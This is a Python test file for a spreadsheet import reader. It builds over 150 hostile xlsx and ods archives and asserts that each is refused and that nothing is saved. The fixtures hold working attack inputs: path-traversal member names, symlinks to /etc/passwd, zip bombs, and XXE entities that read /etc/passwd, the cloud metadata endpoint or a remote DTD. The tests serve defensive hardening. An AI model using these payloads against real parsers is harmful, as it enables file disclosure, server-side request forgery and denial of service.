"""A hundred and fifty and more archives and XML made to hurt, generated: each is refused in words before anything is written (security D5)."""

import io
import re
import zipfile

import pytest
from state import GROWING, digest

from liane.kit.tables import reader
from liane.kit.tables.refusals import TableRefused
from liane.kit.tables.tests.making import ods_of, ods_row, ods_sheet, raw_member, raw_zip, xlsx_of, zip_of
from liane.testing import House

HONEST = xlsx_of([("Nom", "Prénom", "Né le"), ("GARNIER", "Lucie", "02/03/1990")])
PATHS = (
    "../a", "a/../../b", "/etc/passwd", "..", "c:/a", "C:\\a", "a\\..\\b", "\\\\hote\\partage", "//hote/a", "a/..", "./../a", "a/b/../../../c",
    "a\x01b", "a\x1fb", "a\u202eb", "a\u200eb", "a\u2066b", "a\ufeffb", "x" * 260, "~/../a", "con:", "a:flux", "..\\a", "a/\x7f/b", "http://x.test/a",
)  # fmt: skip
ENTITIES = {
    "laughs": '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
    "file": '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    "web": '<!DOCTYPE l [<!ENTITY a SYSTEM "http://127.0.0.1:9/">]>',
    "metadata": '<!DOCTYPE l [<!ENTITY a SYSTEM "http://169.254.169.254/latest/">]>',
    "share": '<!DOCTYPE l [<!ENTITY a SYSTEM "\\\\hote\\partage">]>',
    "parameter": '<!DOCTYPE l [<!ENTITY % p SYSTEM "http://x.test/p.dtd"> %p;]>',
    "nested parameter": "<!DOCTYPE l [<!ENTITY % a '<!ENTITY b \"x\">'> %a;]>",
    "public": '<!DOCTYPE l PUBLIC "-//X" "http://x.test/x.dtd">',
    "system": '<!DOCTYPE l SYSTEM "x.dtd">',
    "notation": '<!DOCTYPE l [<!NOTATION n SYSTEM "x"><!ENTITY a SYSTEM "x" NDATA n>]>',
    "attributes": '<!DOCTYPE l [<!ATTLIST l a CDATA "x">]>',
    "empty": "<!DOCTYPE l>",
    "recursive": '<!DOCTYPE l [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
    "php": '<!DOCTYPE l [<!ENTITY a SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>',
}  # fmt: skip
ENCODINGS = ("utf-8", "utf-16", "utf-16-le")
HONEST_ODS = ods_of(ods_sheet([ods_row("Nom", "Prénom", "Né le"), ods_row("GARNIER", "Lucie", "02/03/1990")]))

REFUSED = "Rien n’a été enregistré."


def parts_of(data: bytes) -> dict[str, bytes]:
    """The parts of an honest file."""
    with zipfile.ZipFile(io.BytesIO(data)) as honest:
        return {name: honest.read(name) for name in honest.namelist()}


def declared(data: bytes, part: str, head: str, encoding: str) -> bytes:
    """The honest file, with a declaration before the content of one of its parts: nothing else is wrong in it."""
    parts = parts_of(data)
    text = re.sub(r"^\s*<\?xml[^>]*\?>", "", parts[part].decode())
    parts[part] = f'<?xml version="1.0" encoding="{encoding[:6]}"?>{head}{text}'.encode(encoding)
    return zip_of(parts)  # type: ignore[arg-type]


def beside(*members: tuple[bytes, bytes]) -> bytes:
    """The honest workbook, and these members."""
    return raw_zip(*(raw_member(name.encode(), content) for name, content in parts_of(HONEST).items()), *members)


def fixtures() -> dict[str, tuple[str, bytes]]:
    """Name of the fixture → what the refusal says, the content."""
    made: dict[str, tuple[str, bytes]] = {}
    for path in PATHS:
        made[f"path {path[:20]!r}"] = "chemin dangereux", beside(raw_member(path.encode(), b"x", flags=0x800))
    for mode in (0o120777, 0o120000, 0o020644, 0o060644, 0o010644, 0o140644):
        made[f"mode {mode:o}"] = "lien", beside(raw_member(b"a", b"/etc/passwd", mode=mode))
    for flag in (0x1, 0x40, 0x2000, 0x41, 0x2001):
        made[f"flag {flag:x}"] = "mot de passe", beside(raw_member(b"a", b"x", flags=flag))
    for method in (1, 2, 3, 4, 5, 6, 9, 10, 12, 14, 18, 19, 93, 95, 97, 98, 99):
        made[f"method {method}"] = REFUSED, beside(raw_member(b"a", b"x", method=method))
    for twin in (
        ("a", "A"),
        ("a", "a"),
        ("é", "e\u0301"),
        ("ﬁ", "fi"),
        ("ß", "SS"),
        ("a/b", "A/b"),
        ("xl/workbook.xml", "XL/Workbook.xml"),
    ):
        members = [raw_member(n.encode(), b"x", flags=0x800) for n in twin]
        made[f"twins {twin}"] = "même nom", beside(*members)
    others = [raw_member(n.encode(), c) for n, c in parts_of(HONEST).items() if n != "xl/workbook.xml"]
    for lie in (
        {"local_unpacked": 1},
        {"unpacked": 1, "local_unpacked": 1},
        {"unpacked": 2**31},
        {"packed": 2**31},
        {"packed": 0},
        {"crc": 1},
    ):
        whole = raw_member(b"xl/workbook.xml", parts_of(HONEST)["xl/workbook.xml"], **lie)
        made[f"lie {lie}"] = REFUSED, raw_zip(whole, *others)
    for start in (
        b"PK\x03\x04....",
        b"PK\x05\x06....",
        b"\x1f\x8b\x08\x00....",
        b"7z\xbc\xaf\x27\x1c..",
        b"Rar!\x1a\x07..",
        b"BZh9....",
        b"\xfd7zXZ\0\0",
    ):
        made[f"inside {start[:4]!r}"] = "autre fichier compressé", beside(raw_member(b"x", start))
    for cut in range(1, 20):
        made[f"cut at {cut}/20"] = REFUSED, HONEST[: len(HONEST) * cut // 20]
    made["bomb"] = "énorme", beside(raw_member(b"x", b"\0" * 40_000_000))
    made["bombs"] = "énorme", beside(*(raw_member(f"x{n}".encode(), b"\0" * 20_000_000) for n in range(7)))
    made["many"] = "trop d’éléments", beside(*(raw_member(f"x{n}".encode(), b"") for n in range(2_001)))
    for kind, head in ENTITIES.items():
        for encoding in ENCODINGS:
            for part in ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml"):
                made[f"{kind} {encoding} {part}"] = "déclaration interdite", declared(HONEST, part, head, encoding)
            made[f"{kind} {encoding} ods"] = (
                "déclaration interdite",
                declared(HONEST_ODS, "content.xml", head, encoding),
            )
    return made


MADE = fixtures()


@pytest.mark.parametrize("name", sorted(MADE))
def test_what_was_made_to_hurt_is_refused_in_words(name: str) -> None:
    said, data = MADE[name]
    with pytest.raises(TableRefused, match=said) as refused:
        reader.read_table(data, "liste")
    assert REFUSED in str(refused.value)


def test_there_are_enough_of_them() -> None:
    assert len(MADE) >= 150
    for honest in (
        HONEST,
        HONEST_ODS,
        beside(),
        declared(HONEST, "xl/workbook.xml", "", "utf-8"),
        declared(HONEST_ODS, "content.xml", "", "utf-8"),
    ):
        assert reader.read_table(honest, "liste").rows[0].cells[0] == "GARNIER", "the honest ones open"


@pytest.mark.slow
def test_sent_by_the_form_nothing_is_written(house: House) -> None:
    client, before = house.client("sophie"), digest(house, but=GROWING)
    for name in sorted(MADE)[:: len(MADE) // 12]:
        sent = io.BytesIO(MADE[name][1])
        sent.name = "liste.xlsx"
        answer = client.post("/personnes/importer/", {"id": "01980000-0000-7000-8000-000000000001", "file": sent})
        assert answer.status_code == 422, name
        assert REFUSED in answer.content.decode(), name
    assert digest(house, but=GROWING) == before
